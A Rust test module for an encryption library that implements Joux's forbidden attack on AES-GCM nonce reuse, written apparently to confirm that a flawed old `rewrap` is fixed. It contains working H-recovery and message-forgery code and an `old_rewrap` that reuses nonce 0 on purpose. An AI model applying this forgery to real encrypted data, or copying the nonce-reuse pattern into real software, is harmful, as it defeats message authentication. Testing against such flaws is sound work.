//! The "forbidden attack" (Joux, 2006) on AES-GCM nonce reuse, applied to the old `rewrap`, which
//! kept a message's id and data key and tagged a *different* header under the same derived key
//! and the same nonce (0). Two GCM tags under one (key, nonce) over different AADs give a
//! polynomial over GF(2^128) whose roots include the GHASH key H; with H and one genuine frame,
//! anyone can compute that frame's tag mask and re-tag a bit-flipped (CTR-malleable) ciphertext,
//! so the whole message can be forged without the key.
//!
//! GF(2^128) and polynomial arithmetic, GHASH, root finding, H recovery and forgery helpers; the
//! tests that use them live in each crate's test suite (`s3crypt-core`'s `tests/it/forbidden.rs`).
//!
//! * [`ghash`], [`recover_h`], [`recover_h_multi`]: the GCM side;
//! * [`parse_frames`], [`frame_aad`], [`forge_frame`], [`forge_header_tag`],
//!   [`forge_message_with_h`], [`forge_message`]: the message side.

use std::sync::Arc;

use ring::aead::{Aad, LessSafeKey, Nonce, UnboundKey, AES_256_GCM};
use s3crypt_core::header::MESSAGE_ID_LEN;
use s3crypt_core::key::FINAL_MARKER;
use s3crypt_core::keyring::{DataKey, DecryptionMaterials, EncryptionMaterials};
use s3crypt_core::suite::Cipher;
use s3crypt_core::{
    DecryptOptions, DecryptSummary, Decryptor, EncryptOptions, EncryptedDataKey, EncryptionContext,
    Encryptor, Error, Header, Keyring, ParsedHeader, ReadLimits, Suite,
};

// ---------------------------------------------------------------------------------------------
// GF(2^128) in GCM's bit order (NIST SP 800-38D §6.3).
//
// A 16-byte block is loaded big-endian into a u128, so the leftmost bit of the block (the MSB of
// byte 0, which the spec calls bit 0 and which is the coefficient of x^0) is bit 127 of the
// u128, and the coefficient of x^i is bit 127 - i. Multiplying by x is then a right shift, and
// the reduction polynomial x^128 + x^7 + x^2 + x + 1 becomes R = 11100001 || 0^120.
// ---------------------------------------------------------------------------------------------

/// A field element, as `u128::from_be_bytes(block)`.
pub type Gf = u128;

/// The multiplicative identity: the polynomial 1, i.e. the block 0x80 00 .. 00.
pub const GF_ONE: Gf = 1 << 127;

/// R of SP 800-38D §6.3.
const R: Gf = 0xE1 << 120;

/// Product in GF(2^128): SP 800-38D §6.3, Algorithm 1, bit for bit.
pub fn gf_mul(x: Gf, y: Gf) -> Gf {
    let mut z = 0;
    let mut v = y;
    for i in 0..128 {
        // x_i, bit i counted from the left.
        if (x >> (127 - i)) & 1 == 1 {
            z ^= v;
        }
        // v = v · x: a right shift, reduced by R when a coefficient of x^128 falls out.
        v = if v & 1 == 0 { v >> 1 } else { (v >> 1) ^ R };
    }
    z
}

/// `x^e` by square-and-multiply.
pub fn gf_pow(x: Gf, mut e: u128) -> Gf {
    let (mut acc, mut base) = (GF_ONE, x);
    while e != 0 {
        if e & 1 == 1 {
            acc = gf_mul(acc, base);
        }
        base = gf_mul(base, base);
        e >>= 1;
    }
    acc
}

/// Inverse of a non-zero element: `x^(2^128 - 2)` (Fermat).
pub fn gf_inv(x: Gf) -> Gf {
    assert!(x != 0, "0 has no inverse");
    gf_pow(x, u128::MAX - 1)
}

/// A block as a field element (zero-padded on the right if short).
pub fn gf_from_block(b: &[u8]) -> Gf {
    let mut block = [0u8; 16];
    block[..b.len()].copy_from_slice(b);
    u128::from_be_bytes(block)
}

/// The blocks GHASH reads (SP 800-38D §7.1 step 5): A || 0^v || C || 0^u || [len(A)]64 ||
/// [len(C)]64, as field elements.
fn ghash_blocks(aad: &[u8], ct: &[u8]) -> Vec<Gf> {
    let mut blocks: Vec<Gf> = aad
        .chunks(16)
        .chain(ct.chunks(16))
        .map(gf_from_block)
        .collect();
    let bits = |n: usize| u128::from(n as u64 * 8);
    blocks.push((bits(aad.len()) << 64) | bits(ct.len()));
    blocks
}

/// GHASH_H(A, C) with the length block (SP 800-38D §6.4 Algorithm 2 over the blocks of §7.1):
/// Y_0 = 0, Y_i = (Y_{i-1} ^ X_i) · H. The GCM tag is E_K(J0) ^ GHASH_H(A, C) (§7.1 step 6);
/// E_K(J0) is the tag of empty A and C, since GHASH of nothing but a zero length block is 0.
pub fn ghash(h: &[u8; 16], aad: &[u8], ct: &[u8]) -> [u8; 16] {
    let h = u128::from_be_bytes(*h);
    ghash_blocks(aad, ct)
        .into_iter()
        .fold(0, |y, x| gf_mul(y ^ x, h))
        .to_be_bytes()
}

/// Block XOR.
pub fn xor16(a: [u8; 16], b: [u8; 16]) -> [u8; 16] {
    (u128::from_be_bytes(a) ^ u128::from_be_bytes(b)).to_be_bytes()
}

// ---------------------------------------------------------------------------------------------
// Polynomials over GF(2^128): coefficient i is that of X^i, no trailing zeros (0 is empty).
// Characteristic 2: addition and subtraction are both XOR.
// ---------------------------------------------------------------------------------------------

/// A polynomial over GF(2^128), lowest degree first, trimmed.
pub type Poly = Vec<Gf>;

fn trim(mut p: Poly) -> Poly {
    while p.last() == Some(&0) {
        p.pop();
    }
    p
}

/// Degree (`None` for the zero polynomial).
pub fn poly_deg(p: &[Gf]) -> Option<usize> {
    p.len().checked_sub(1)
}

pub fn poly_add(a: &[Gf], b: &[Gf]) -> Poly {
    let mut r = vec![0; a.len().max(b.len())];
    for (i, c) in a.iter().enumerate() {
        r[i] ^= c;
    }
    for (i, c) in b.iter().enumerate() {
        r[i] ^= c;
    }
    trim(r)
}

pub fn poly_mul(a: &[Gf], b: &[Gf]) -> Poly {
    if a.is_empty() || b.is_empty() {
        return Vec::new();
    }
    let mut r = vec![0; a.len() + b.len() - 1];
    for (i, &x) in a.iter().enumerate() {
        for (j, &y) in b.iter().enumerate() {
            r[i + j] ^= gf_mul(x, y);
        }
    }
    trim(r)
}

/// `a^2`: in characteristic 2 the cross terms cancel, so only the squares of the coefficients.
fn poly_square(a: &[Gf]) -> Poly {
    let mut r = vec![0; (2 * a.len()).saturating_sub(1)];
    for (i, &x) in a.iter().enumerate() {
        r[2 * i] = gf_mul(x, x);
    }
    trim(r)
}

/// Quotient and remainder of `a / b`. Panics if `b` is 0.
pub fn poly_divrem(a: &[Gf], b: &[Gf]) -> (Poly, Poly) {
    let db = poly_deg(b).expect("division by the zero polynomial");
    let inv_lead = gf_inv(b[db]);
    let mut r = a.to_vec();
    let mut q = vec![0; a.len().saturating_sub(db)];
    while let Some(dr) = poly_deg(&r).filter(|&d| d >= db) {
        let c = gf_mul(r[dr], inv_lead);
        q[dr - db] = c;
        for (i, &y) in b.iter().enumerate() {
            r[dr - db + i] ^= gf_mul(c, y);
        }
        r = trim(r);
    }
    (trim(q), r)
}

fn poly_rem(a: &[Gf], m: &[Gf]) -> Poly {
    poly_divrem(a, m).1
}

/// `p` divided by its leading coefficient (0 stays 0).
pub fn poly_monic(p: &[Gf]) -> Poly {
    match p.last() {
        None => Vec::new(),
        Some(&lead) => {
            let inv = gf_inv(lead);
            p.iter().map(|&c| gf_mul(c, inv)).collect()
        }
    }
}

/// Monic greatest common divisor (Euclid).
pub fn poly_gcd(a: &[Gf], b: &[Gf]) -> Poly {
    let (mut a, mut b) = (trim(a.to_vec()), trim(b.to_vec()));
    while !b.is_empty() {
        let r = poly_rem(&a, &b);
        a = std::mem::replace(&mut b, r);
    }
    poly_monic(&a)
}

/// `base^(2^k) mod m`, by k squarings.
pub fn poly_pow2k_mod(base: &[Gf], k: u32, m: &[Gf]) -> Poly {
    let mut t = poly_rem(base, m);
    for _ in 0..k {
        t = poly_rem(&poly_square(&t), m);
    }
    t
}

/// `base^e mod m`, by square-and-multiply.
pub fn poly_powmod(base: &[Gf], mut e: u128, m: &[Gf]) -> Poly {
    let mut acc = poly_rem(&[GF_ONE], m);
    let mut b = poly_rem(base, m);
    while e != 0 {
        if e & 1 == 1 {
            acc = poly_rem(&poly_mul(&acc, &b), m);
        }
        b = poly_rem(&poly_square(&b), m);
        e >>= 1;
    }
    acc
}

/// The polynomial X.
pub fn poly_x() -> Poly {
    vec![0, GF_ONE]
}

/// The distinct roots of `p` in GF(2^128). First `g = gcd(p, X^(2^128) - X)`, the product of
/// `X - r` over the roots r, then Cantor–Zassenhaus equal-degree splitting of g into linear
/// factors: for random a, the trace map Tr(aX) = sum_{i<128} (aX)^(2^i) takes values in GF(2) at
/// the roots, so gcd(g, Tr(aX) mod g) holds the roots with Tr(a·r) = 0, about half of them.
pub fn poly_roots(p: &[Gf]) -> Vec<Gf> {
    let p = poly_monic(p);
    if poly_deg(&p).unwrap_or(0) == 0 {
        return Vec::new();
    }
    let x = poly_x();
    let x_q = poly_pow2k_mod(&x, 128, &p);
    let g = poly_gcd(&p, &poly_add(&x_q, &x));
    let mut roots = Vec::new();
    split_linear(g, &mut roots);
    roots.sort_unstable();
    roots
}

/// Splits a monic product of distinct linear factors, collecting the roots.
fn split_linear(g: Poly, roots: &mut Vec<Gf>) {
    match poly_deg(&g) {
        None | Some(0) => {}
        // X + c (= X - c): the root is c.
        Some(1) => roots.push(g[0]),
        Some(d) => loop {
            let a: Gf = rand::random();
            let ax = poly_rem(&[0, a], &g);
            let mut t = ax.clone();
            let mut tr = ax;
            for _ in 1..128 {
                t = poly_rem(&poly_square(&t), &g);
                tr = poly_add(&tr, &t);
            }
            let f = poly_gcd(&g, &tr);
            if matches!(poly_deg(&f), Some(k) if k > 0 && k < d) {
                let (q, _) = poly_divrem(&g, &f);
                split_linear(f, roots);
                split_linear(poly_monic(&q), roots);
                return;
            }
        },
    }
}

// ---------------------------------------------------------------------------------------------
// Recovering H from tags under a repeated (key, nonce).
// ---------------------------------------------------------------------------------------------

/// One (AAD, ciphertext, tag) triple.
pub type Triple<'a> = (&'a [u8], &'a [u8], [u8; 16]);

/// f(X) = GHASH_X(A, C) + T as a polynomial in X: block i of m gets X^(m+1-i), T is the constant
/// term. For every triple under one (key, nonce), f(H) = E_K(J0), the same value.
fn tag_polynomial(aad: &[u8], ct: &[u8], tag: [u8; 16]) -> Poly {
    let blocks = ghash_blocks(aad, ct);
    let mut p = vec![0; blocks.len() + 1];
    p[0] = u128::from_be_bytes(tag);
    for (i, b) in blocks.iter().rev().enumerate() {
        p[i + 1] = *b;
    }
    trim(p)
}

/// The gcd of f_1 - f_j over every group's triples (each group under its own nonce, all under one
/// key): H is among its roots. `None` if the triples say nothing (fewer than two distinct ones).
fn h_polynomial(groups: &[&[Triple<'_>]]) -> Option<Poly> {
    let mut acc: Option<Poly> = None;
    for group in groups {
        let Some(((a0, c0, t0), rest)) = group.split_first() else {
            continue;
        };
        let f0 = tag_polynomial(a0, c0, *t0);
        for (a, c, t) in rest {
            let d = poly_add(&f0, &tag_polynomial(a, c, *t));
            if d.is_empty() {
                continue;
            }
            acc = Some(match acc {
                None => d,
                Some(g) => poly_gcd(&g, &d),
            });
        }
    }
    acc
}

/// Candidate GHASH keys H from two or more triples sealed under one (key, nonce). H is always
/// among them when the triples are genuine; other roots of the difference polynomial may come
/// along (try each). With more than two triples the difference polynomials are intersected (gcd),
/// which usually leaves H alone. Empty if the triples carry no information.
pub fn recover_h(triples: &[Triple<'_>]) -> Vec<[u8; 16]> {
    recover_h_multi(&[triples])
}

/// As [`recover_h`], for several groups of triples, each group under its own nonce but all under
/// the same key (so the same H): the candidates common to all groups.
pub fn recover_h_multi(groups: &[&[Triple<'_>]]) -> Vec<[u8; 16]> {
    match h_polynomial(groups) {
        None => Vec::new(),
        Some(p) => poly_roots(&p).into_iter().map(u128::to_be_bytes).collect(),
    }
}

// ---------------------------------------------------------------------------------------------
// Messages: frames, masks and forgeries.
// ---------------------------------------------------------------------------------------------

const FRAME_LABEL: &[u8] = b"AWSKMSEncryptionClient Frame";
const FINAL_LABEL: &[u8] = b"AWSKMSEncryptionClient Final Frame";

/// One frame of a message body.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Frame {
    pub seq: u32,
    pub is_final: bool,
    pub ciphertext: Vec<u8>,
    pub tag: [u8; 16],
}

impl Frame {
    /// The frame's wire bytes.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.ciphertext.len() + 40);
        if self.is_final {
            out.extend_from_slice(&FINAL_MARKER.to_be_bytes());
        }
        out.extend_from_slice(&self.seq.to_be_bytes());
        out.extend_from_slice(&[0; 8]);
        out.extend_from_slice(&self.seq.to_be_bytes());
        if self.is_final {
            out.extend_from_slice(&(self.ciphertext.len() as u32).to_be_bytes());
        }
        out.extend_from_slice(&self.ciphertext);
        out.extend_from_slice(&self.tag);
        out
    }
}

/// The frames of a body (the bytes after the header tag), up to and including the final frame.
/// `None` if the body ends early.
pub fn parse_frames(body: &[u8], frame_length: u32) -> Option<Vec<Frame>> {
    let take = |at: &mut usize, n: usize| -> Option<&[u8]> {
        let s = body.get(*at..*at + n)?;
        *at += n;
        Some(s)
    };
    let u32_at = |s: &[u8]| u32::from_be_bytes([s[0], s[1], s[2], s[3]]);
    let mut at = 0;
    let mut frames = Vec::new();
    loop {
        let first = u32_at(take(&mut at, 4)?);
        let is_final = first == FINAL_MARKER;
        let seq = if is_final {
            u32_at(take(&mut at, 4)?)
        } else {
            first
        };
        take(&mut at, 12)?; // IV = 0^64 || seq
        let len = if is_final {
            u32_at(take(&mut at, 4)?) as usize
        } else {
            frame_length as usize
        };
        let ciphertext = take(&mut at, len)?.to_vec();
        let tag = take(&mut at, 16)?.try_into().ok()?;
        frames.push(Frame {
            seq,
            is_final,
            ciphertext,
            tag,
        });
        if is_final {
            return Some(frames);
        }
    }
}

/// A frame's AAD: message id || label || seq (4) || plaintext length (8).
pub fn frame_aad(
    message_id: &[u8; MESSAGE_ID_LEN],
    is_final: bool,
    seq: u32,
    len: usize,
) -> Vec<u8> {
    let label = if is_final { FINAL_LABEL } else { FRAME_LABEL };
    [
        message_id,
        label,
        &seq.to_be_bytes(),
        &(len as u64).to_be_bytes(),
    ]
    .concat()
}

/// The GCM mask E_K(J0) of a genuine frame's nonce: its tag minus GHASH of its AAD and ciphertext.
pub fn frame_mask(h: &[u8; 16], message_id: &[u8; MESSAGE_ID_LEN], f: &Frame) -> [u8; 16] {
    let aad = frame_aad(message_id, f.is_final, f.seq, f.ciphertext.len());
    xor16(f.tag, ghash(h, &aad, &f.ciphertext))
}

/// From a genuine frame whose plaintext `known` is known, the frame with the same sequence number
/// (so the same nonce, keystream and mask) holding `chosen` instead, regular or final, with a
/// valid tag. `None` if `known` is not as long as the genuine frame or `chosen` is longer (no
/// keystream for it). A regular frame must stay full length for the reader to accept it.
pub fn forge_frame(
    h: &[u8; 16],
    message_id: &[u8; MESSAGE_ID_LEN],
    genuine: &Frame,
    known: &[u8],
    chosen: &[u8],
    is_final: bool,
) -> Option<Frame> {
    if known.len() != genuine.ciphertext.len() || chosen.len() > known.len() {
        return None;
    }
    // CTR: C = P ^ keystream, so C' = C ^ P ^ P'.
    let ciphertext: Vec<u8> = chosen
        .iter()
        .zip(known)
        .zip(&genuine.ciphertext)
        .map(|((p2, p), c)| c ^ p ^ p2)
        .collect();
    let aad = frame_aad(message_id, is_final, genuine.seq, ciphertext.len());
    let tag = xor16(
        frame_mask(h, message_id, genuine),
        ghash(h, &aad, &ciphertext),
    );
    Some(Frame {
        seq: genuine.seq,
        is_final,
        ciphertext,
        tag,
    })
}

/// A valid tag for `new_header` (serialized header without tag) under the key and nonce 0 of a
/// genuine header (`genuine_bytes`, `genuine_tag`), given H.
pub fn forge_header_tag(
    h: &[u8; 16],
    genuine_bytes: &[u8],
    genuine_tag: [u8; 16],
    new_header: &[u8],
) -> [u8; 16] {
    let mask = xor16(genuine_tag, ghash(h, genuine_bytes, &[]));
    xor16(mask, ghash(h, new_header, &[]))
}

/// Reads a header of a suite this attack applies to (AES-GCM, unsigned).
fn gcm_header(msg: &[u8]) -> Option<ParsedHeader> {
    let p = Header::read(msg, &ReadLimits::default()).ok()?;
    let s = p.header.suite;
    (s.cipher() == Cipher::Aes256Gcm && !s.is_signed()).then_some(p)
}

/// Given H, forges `msg` (whose plaintext `known` is known) into a message with the same header
/// and plaintext `chosen`, which may be shorter than `known` (then a frame turns final: a
/// truncation). Frames are laid out as the encryptor does: full frames, the last one final.
/// `None` if `msg` does not parse, `known` does not match its length or `chosen` is longer.
pub fn forge_message_with_h(
    msg: &[u8],
    h: &[u8; 16],
    known: &[u8],
    chosen: &[u8],
) -> Option<Vec<u8>> {
    let p = gcm_header(msg)?;
    let fl = p.header.frame_length as usize;
    let frames = parse_frames(&msg[p.len()..], p.header.frame_length)?;
    let total: usize = frames.iter().map(|f| f.ciphertext.len()).sum();
    if total != known.len() || chosen.len() > known.len() {
        return None;
    }
    let n = chosen.len().div_ceil(fl).max(1);
    let mut out = msg[..p.len()].to_vec();
    for (i, genuine) in frames.iter().enumerate().take(n) {
        let k = &known[i * fl..i * fl + genuine.ciphertext.len()];
        let c = &chosen[(i * fl).min(chosen.len())..((i + 1) * fl).min(chosen.len())];
        let f = forge_frame(h, &p.header.message_id, genuine, k, c, i + 1 == n)?;
        out.extend(f.to_bytes());
    }
    Some(out)
}

/// The attack: from two messages with different headers under the same message id (the old
/// rewrap's output), recovers the H candidates and, for each, forges `msg_a` (plaintext
/// `known_a`) into plaintext `chosen` (at most as long). A wrong candidate makes a forgery that
/// fails authentication; the right one decrypts. Empty if the attack does not apply: different
/// message ids (different derived keys, so the tags share nothing), identical headers, or a suite
/// other than unsigned AES-GCM. Frames at the same sequence number that differ between the two
/// messages (nonce reuse in the body too) narrow the candidates further.
pub fn forge_message(msg_a: &[u8], msg_b: &[u8], known_a: &[u8], chosen: &[u8]) -> Vec<Vec<u8>> {
    let (Some(pa), Some(pb)) = (gcm_header(msg_a), gcm_header(msg_b)) else {
        return Vec::new();
    };
    if pa.header.message_id != pb.header.message_id || pa.bytes == pb.bytes {
        return Vec::new();
    }
    let headers: Vec<Triple<'_>> = vec![
        (&pa.bytes[..], &[][..], pa.tag),
        (&pb.bytes[..], &[][..], pb.tag),
    ];
    let fa = parse_frames(&msg_a[pa.len()..], pa.header.frame_length).unwrap_or_default();
    let fb = parse_frames(&msg_b[pb.len()..], pb.header.frame_length).unwrap_or_default();
    let mid = &pa.header.message_id;
    let aads: Vec<_> = fa
        .iter()
        .chain(&fb)
        .map(|f| frame_aad(mid, f.is_final, f.seq, f.ciphertext.len()))
        .collect();
    let (aads_a, aads_b) = aads.split_at(fa.len());
    let frame_groups: Vec<Vec<Triple<'_>>> = fa
        .iter()
        .zip(aads_a)
        .filter_map(|(x, xa)| {
            let (y, ya) = fb.iter().zip(aads_b).find(|(y, _)| y.seq == x.seq)?;
            (x != y).then(|| {
                vec![
                    (&xa[..], &x.ciphertext[..], x.tag),
                    (&ya[..], &y.ciphertext[..], y.tag),
                ]
            })
        })
        .collect();
    let mut groups: Vec<&[Triple<'_>]> = vec![&headers];
    groups.extend(frame_groups.iter().map(Vec::as_slice));
    recover_h_multi(&groups)
        .iter()
        .filter_map(|h| forge_message_with_h(msg_a, h, known_a, chosen))
        .collect()
}

// ---------------------------------------------------------------------------------------------
// Tests, and their helpers (public too, for crates that include this file).
// ---------------------------------------------------------------------------------------------

pub fn hex(s: &str) -> Vec<u8> {
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
        .collect()
}

pub fn hex16(s: &str) -> [u8; 16] {
    hex(s).try_into().unwrap()
}

/// AES-256-GCM with ring: (ciphertext, tag).
pub fn seal(key: &[u8; 32], nonce: [u8; 12], aad: &[u8], pt: &[u8]) -> (Vec<u8>, [u8; 16]) {
    let k = LessSafeKey::new(UnboundKey::new(&AES_256_GCM, key).unwrap());
    let mut buf = pt.to_vec();
    let tag = k
        .seal_in_place_separate_tag(
            Nonce::assume_unique_for_key(nonce),
            Aad::from(aad),
            &mut buf,
        )
        .unwrap();
    (buf, tag.as_ref().try_into().unwrap())
}

pub fn random_bytes(max: usize) -> Vec<u8> {
    let n = rand::random::<usize>() % (max + 1);
    (0..n).map(|_| rand::random()).collect()
}

pub const DATA_KEY: [u8; 32] = [0x42; 32];

/// A keyring with one fixed, known data key (the attacker never uses it).
#[derive(Debug)]
pub struct FixedKeyring;

impl Keyring for FixedKeyring {
    fn on_encrypt(&self, m: &mut EncryptionMaterials) -> s3crypt_core::Result<()> {
        if m.data_key().is_none() {
            m.set_data_key(DataKey::from_bytes(DATA_KEY));
        }
        m.add_encrypted_data_key(EncryptedDataKey {
            provider_id: "test".into(),
            provider_info: b"fixed".to_vec(),
            ciphertext: vec![0xEE; 40],
        });
        Ok(())
    }

    fn on_decrypt(
        &self,
        m: &mut DecryptionMaterials,
        _edks: &[EncryptedDataKey],
    ) -> s3crypt_core::Result<()> {
        if m.data_key().is_none() {
            m.set_data_key(DataKey::from_bytes(DATA_KEY));
        }
        Ok(())
    }
}

pub const FRAME: u32 = 64;

pub fn encrypt(context: &[(&str, &str)], pt: &[u8]) -> Vec<u8> {
    let opts = EncryptOptions {
        suite: Suite::DEFAULT,
        frame_length: FRAME,
        context: EncryptionContext::from_pairs(context.iter().copied()).unwrap(),
        ..Default::default()
    };
    let mut enc = Encryptor::new(&FixedKeyring, &opts).unwrap();
    let mut out = Vec::new();
    enc.update(pt, &mut out).unwrap();
    enc.finish(&mut out).unwrap();
    out
}

pub fn decrypt(msg: &[u8]) -> Result<(Vec<u8>, DecryptSummary), Error> {
    let mut dec = Decryptor::new(Arc::new(FixedKeyring), DecryptOptions::default());
    let mut out = Vec::new();
    dec.update(msg, &mut out)?;
    let summary = dec.finish(&mut out)?;
    Ok((out, summary))
}

/// HKDF-SHA512(data key, salt = message id, info = suite id || "DERIVEKEY", 32).
pub fn derived_key(message_id: &[u8; 32], suite: Suite) -> [u8; 32] {
    let hk = hkdf::Hkdf::<sha2::Sha512>::new(Some(message_id), &DATA_KEY);
    let mut key = [0u8; 32];
    hk.expand(
        &[&suite.id().to_be_bytes()[..], b"DERIVEKEY"].concat(),
        &mut key,
    )
    .unwrap();
    key
}

/// What the old rewrap did: same message id, data key, commitment and frames, a new header
/// (here another context and one more wrapped key) tagged under the same derived key and
/// nonce 0.
pub fn old_rewrap(msg: &[u8]) -> Vec<u8> {
    let p = Header::read(msg, &ReadLimits::default()).unwrap();
    let mut h = p.header.clone();
    h.context = EncryptionContext::from_pairs(h.context.iter().map(|(k, v)| {
        (
            k,
            if k == "key" {
                "reports/q3-archived.csv"
            } else {
                v
            },
        )
    }))
    .unwrap();
    h.encrypted_data_keys.push(EncryptedDataKey {
        provider_id: "test".into(),
        provider_info: b"backup".to_vec(),
        ciphertext: vec![0xBB; 40],
    });
    let mut out = h.to_bytes().unwrap();
    let (_, tag) = seal(&derived_key(&h.message_id, h.suite), [0; 12], &out, &[]);
    out.extend_from_slice(&tag);
    out.extend_from_slice(&msg[p.len()..]);
    out
}

pub const CONTEXT: [(&str, &str); 2] = [("bucket", "finance"), ("key", "reports/q3.csv")];

pub fn payroll() -> Vec<u8> {
    let mut pt = b"PAY 100.00 EUR TO ALICE, IBAN DE44 5001 0517 5407 3249 31. ".repeat(5);
    pt.truncate(4 * FRAME as usize + 21);
    pt
}
